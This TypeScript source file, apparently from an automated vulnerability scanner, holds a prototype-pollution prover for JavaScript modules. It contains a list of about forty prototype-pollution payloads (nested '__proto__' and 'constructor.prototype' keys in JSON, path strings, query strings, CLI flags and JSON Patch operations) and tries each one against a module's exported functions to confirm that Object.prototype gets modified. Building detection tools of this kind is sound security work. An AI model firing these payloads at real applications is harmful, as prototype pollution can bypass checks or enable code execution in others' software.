import type { Proof } from '@filewright/contracts'
import { callOf, shownCall } from './calls.js'
import { lineOf, type Case } from './case.js'
import { reproducerOf } from './reproducer.js'

const nested = (...keys: string[]): string =>
  `JSON.parse('${keys.reduceRight((inner, key) => `{"${key}":${inner}}`, '"yes"')}')`
const byProto = nested('__proto__', 'polluted')
const byConstructor = nested('constructor', 'prototype', 'polluted')

/** Arguments of functions that merge, set or parse nested properties, the simplest first. */
const attempts = [
  `{}, ${byProto}`,
  `{}, "__proto__.polluted", "yes"`,
  `{}, ["__proto__", "polluted"], "yes"`,
  byProto,
  `"__proto__.polluted", "yes"`,
  `{}, "__proto__", "polluted", "yes"`,
  `"__proto__.polluted", "yes", {}`,
  `"__proto__.polluted", {}, "yes"`,
  `["__proto__", "polluted"], "yes", {}`,
  `{}, "yes", "__proto__.polluted"`,
  `{}, {}, ${byProto}`,
  `true, {}, ${byProto}`,
  `[{}, ${byProto}]`,
  `{}, [${byProto}]`,
  `${byProto}, {}`,
  `{}, ${byConstructor}`,
  `{}, "constructor.prototype.polluted", "yes"`,
  `{}, ["constructor", "prototype", "polluted"], "yes"`,
  `true, {}, ${byConstructor}`,
  `{}, "/__proto__/polluted", "yes"`,
  `{}, "__proto__[polluted]", "yes"`,
  `{}, "/constructor/prototype/polluted", "yes"`,
  `{}, [["__proto__"], "polluted"], "yes"`,
  `{}, [["__proto__"], ["polluted"]], "yes"`,
  `"__proto__", "polluted", "yes"`,
  `["__proto__", "polluted"], "yes"`,
  `{ "__proto__.polluted": "yes" }`,
  `{}, { "__proto__.polluted": "yes" }`,
  `{ "constructor.prototype.polluted": "yes" }`,
  `"__proto__[polluted]=yes"`,
  `"__proto__.polluted=yes"`,
  `"?__proto__[polluted]=yes"`,
  `"[__proto__]\\npolluted=yes"`,
  `["--__proto__.polluted", "yes"]`,
  `["--__proto__.polluted=yes"]`,
  `[{ name: "__proto__.polluted", value: "yes" }]`,
  `[["__proto__.polluted", "yes"]]`,
  `{}, [{ op: "add", path: "/__proto__/polluted", value: "yes" }]`,
  `{}, { op: "add", path: "/__proto__/polluted", value: "yes" }`
]

/** Proves that the call adds a property to `Object.prototype`. */
export async function provePollution(given: Case): Promise<Proof | null> {
  const { module, loaded, entries, confirm } = given
  const callees = entries.map((entry) => ({ entry, callee: callOf(entry, module).callee }))
  for (const args of attempts) {
    for (const { entry, callee } of callees) {
      const call = `${callee}(${args})`
      if ((await loaded.run(call))?.isPolluted !== true) continue
      if ((await confirm(call, ({ isPolluted }) => (isPolluted ? true : null))) === null) continue
      const effect = 'every object has the property `polluted`'
      return {
        input: shownCall(entry, call),
        observed: effect,
        reproducer: reproducerOf(module, call, { kind: 'pollution' }, effect),
        entry_line: lineOf(entry, given)
      }
    }
  }
  return null
}
